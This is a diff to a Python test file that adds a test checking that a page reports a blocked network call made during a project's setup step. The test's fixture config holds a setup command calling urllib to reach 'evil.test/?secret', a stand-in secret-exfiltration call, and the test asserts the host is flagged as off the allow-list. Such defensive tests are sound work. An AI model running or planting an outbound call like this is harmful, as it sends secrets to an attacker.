@@ -15,7 +15,7 @@ from pydantic import SecretStr
 
 from app.playground.run import let_sign_in, sign_in_settings
 from app.web.sessions import Cookies, Session, SigningIn
-from tests.support.house import FINISH, FIX, House, Subject, open_house, script
+from tests.support.house import FINISH, FIX, PROJECT, House, Subject, open_house, script
 
 pytestmark = pytest.mark.asyncio(loop_scope="module")
 
@@ -197,6 +197,22 @@ async def test_a_page_tells_what_a_person_on_a_phone_wants(house: House, public:
     assert f'href="{github}/issues/{public.number}"' in text
     assert f'href="{github}/pull/{public.pull.number}"' in text
     assert f'href="{github}/runs/{public.check.id}"' in text
+
+
+async def test_a_page_tells_what_set_up_tried_to_reach(house: House) -> None:
+    fetch = "import urllib.request as u; u.urlopen('https://evil.test/?secret')"
+    rules = f"""
+setup: ['python3 -c "{fetch.replace("'", "''")}" || true']
+network: {{allow: [files.example]}}
+verify: ["python3 -c 'import calc; assert calc.add(2, 3) == 5'"]
+"""
+    files = {**PROJECT, ".github/honk.yml": rules.encode()}
+    subject = await house.subject(files=files, plays=script([FIX], [FINISH]))
+    await subject.label()
+    await subject.settled()
+    async with _signed_in(house, "olivia") as client:
+        text = (await client.get(_page(subject))).text
+    assert "<code>evil.test</code>: the host is not on the allow-list" in text
 
 
 async def test_what_people_wrote_is_text_and_never_markup(house: House, public: Subject) -> None:
